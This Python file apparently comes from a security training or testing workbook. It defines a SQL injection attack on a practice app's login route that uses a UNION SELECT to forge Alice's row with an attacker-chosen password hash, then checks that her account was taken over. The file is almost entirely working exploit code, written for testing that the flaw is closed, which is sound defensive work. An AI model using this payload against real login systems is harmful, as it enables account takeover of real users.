"""Mallory types a piece of SQL where a name is due, and logs in as Alice.

It works where the name becomes a part of the question. Hers ends the question early and adds one
of her own: Alice's row, with the hash of a password that Mallory has made up.
"""

import bcrypt

from workbook.attacking import Api, NoSuchRoute, attack

PASSWORD = "a-password-of-mallorys-own"
HASH = bcrypt.hashpw(PASSWORD.encode(), bcrypt.gensalt(4)).decode()


@attack(
    "Log in as Alice with SQL in place of a name",
    route="POST /login",
    closes=7,
    see="CWE-89",
    catches="PW-26",
)
def login_by_sql(api: Api) -> str | None:
    if not (api.alice.id and api.stored.in_database):
        raise NoSuchRoute("a database")
    row = f"SELECT id, username, email, full_name, '{HASH}', disabled"
    question = f"{row} FROM users WHERE username = '{api.alice.username}'"
    for end in ("x')", "x'"):
        name = f"{end} UNION {question} --"
        body = {"username": name, "password": PASSWORD}
        seen = api.post("/login", json=body, caller="mallory")
        if seen.status != 200:
            continue
        token = str(seen.json.get("access_token"))
        seen = api.get("/profile", token=token, caller="mallory")
        if api.alice.id in seen.text:
            return "Alice's account, and she never learned Alice's password"
    return None
